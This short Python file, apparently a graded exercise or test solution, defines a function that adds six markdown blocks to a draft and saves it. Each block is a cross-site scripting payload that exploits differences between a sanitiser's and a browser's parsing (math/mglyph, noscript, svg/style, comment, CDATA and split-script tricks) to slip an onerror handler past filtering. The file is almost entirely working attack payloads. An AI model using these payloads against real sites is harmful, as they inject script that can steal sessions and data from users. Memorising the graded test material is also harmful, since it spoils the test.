"""Markup that a careful reader and a browser take apart differently hides a handler from the first.

outcome: graded
"""


def hand_in(draft):
    js = draft.script
    draft.add(
        "markdown", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">'
    )
    draft.add("markdown", f'<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>')
    draft.add("markdown", f'<svg></p><style><a id="</style><img src=1 onerror={js}>"></svg>')
    draft.add("markdown", f'<!--><img src=x onerror="{js}">--> <![CDATA[<img src=x onerror="{js}">]]>')
    draft.add("markdown", f'<?x <img src=x onerror="{js}">?> <scr<script>ipt>{js}</scr</script>ipt>')
    draft.add(
        "markdown", f'<img/src="x"/onerror="{js}"> <img src="x`onerror={js}`"> <template><img src=x onerror="{js}">'
    )
    draft.save()
